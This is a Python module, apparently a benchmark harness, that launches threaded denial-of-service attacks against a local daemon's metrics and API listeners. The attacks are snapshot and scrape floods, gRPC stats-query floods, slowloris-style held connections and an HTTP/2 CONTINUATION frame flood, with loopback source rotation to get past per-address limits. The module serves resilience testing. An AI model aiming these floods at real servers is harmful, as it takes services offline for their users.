"""One attack on a daemon's listeners, until standard input ends: ``python -m bench.attacks.attacker
ATTACK ADDRESS``.

It says when it has been done once, and at the end how often. It stops by itself after a minute.
"""

from __future__ import annotations

import contextlib
import http.client
import itertools
import os
import socket
import struct
import sys
import threading
from collections.abc import Callable

__all__ = ["ATTACKS"]

Address = tuple[str, int]

_LONGEST = 60.0
_TIMES = itertools.count()
_BEGUN = threading.Event()
_SNAPSHOTS, _QUERIERS, _HOLDERS, _FLOODERS = 90, 10, 100, 128
# One address may have half of the places, so that it takes two to have all.
_SOURCES = ("127.0.0.1", "127.0.0.2")
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAMES = 1 << 16


def _snapshots(address: Address, source: Address) -> None:
    """Ask for the page's figures again and again, each time with another filter."""
    connection = http.client.HTTPConnection(*address, timeout=_LONGEST, source_address=source)
    for number in itertools.count():
        connection.request("GET", f"/api/snapshot?limit=1000&filter=user-{number % 9}")
        connection.getresponse().read()
        _done()


def _scrapes(address: Address, source: Address) -> None:
    """Scrape again and again."""
    connection = http.client.HTTPConnection(*address, timeout=_LONGEST, source_address=source)
    while True:
        connection.request("GET", "/metrics")
        connection.getresponse().read()
        _done()


def _queries(address: Address, _: Address) -> None:
    """Ask for every counter again and again."""
    import grpc

    with grpc.insecure_channel(
        "{}:{}".format(*address), options=[("grpc.use_local_subchannel_pool", 1)]
    ) as channel:
        call = channel.unary_unary(
            "/v2ray.core.app.stats.command.StatsService/QueryStats", bytes, bytes
        )
        while True:
            call(b"")
            _done()


def _held(address: Address, source: Address) -> None:
    """Take a place and say next to nothing."""
    while True:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(address, _LONGEST, source) as connected,
        ):
            connected.sendall(b"GET / HTTP/1.1\r\n")
            _done()
            connected.recv(1)


def _continuations(address: Address, source: Address) -> None:
    """Begin a request's headers by HTTP/2, and never end them (RFC 9113, 6.10)."""
    name = b"x-" + b"n" * 100
    # A literal that is not indexed (RFC 7541, 6.2.2)
    field = b"\0" + bytes([len(name)]) + name + b"\x7f\xa1\x1f" + b"v" * 4000
    while True:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(address, _LONGEST, source) as connected,
        ):
            connected.sendall(_PREFACE + _frame(4, 0, 0, b"") + _frame(1, 0, 1, field))
            _done()
            for _ in range(_FRAMES):
                connected.sendall(_frame(9, 0, 1, field))


def _done() -> None:
    next(_TIMES)
    _BEGUN.set()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


ATTACKS: dict[str, tuple[Callable[[Address, Address], None], int, str]] = {
    "snapshots": (_snapshots, _SNAPSHOTS, "metrics"),
    "scrapes": (_scrapes, 1, "metrics"),
    "queries": (_queries, _QUERIERS, "api"),
    "holders": (_held, _HOLDERS, "metrics"),
    "continuations": (_continuations, _FLOODERS, "api"),
}
"""What one of them does, how many there are, and at which of the daemon's listeners."""


def main(attack: str, port: int) -> None:
    """Attack until standard input ends."""
    do, count, _ = ATTACKS[attack]

    def again(source: str) -> None:
        while True:
            with contextlib.suppress(Exception):  # who is refused comes again
                do(("127.0.0.1", port), (source, 0))

    for _, source in zip(range(count), itertools.cycle(_SOURCES), strict=False):
        threading.Thread(target=again, args=[source], daemon=True).start()
    watchdog = threading.Timer(_LONGEST, os._exit, (1,))
    watchdog.daemon = True
    watchdog.start()
    _BEGUN.wait()
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    sys.stdin.read()
    sys.stdout.write(f"{next(_TIMES)}\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
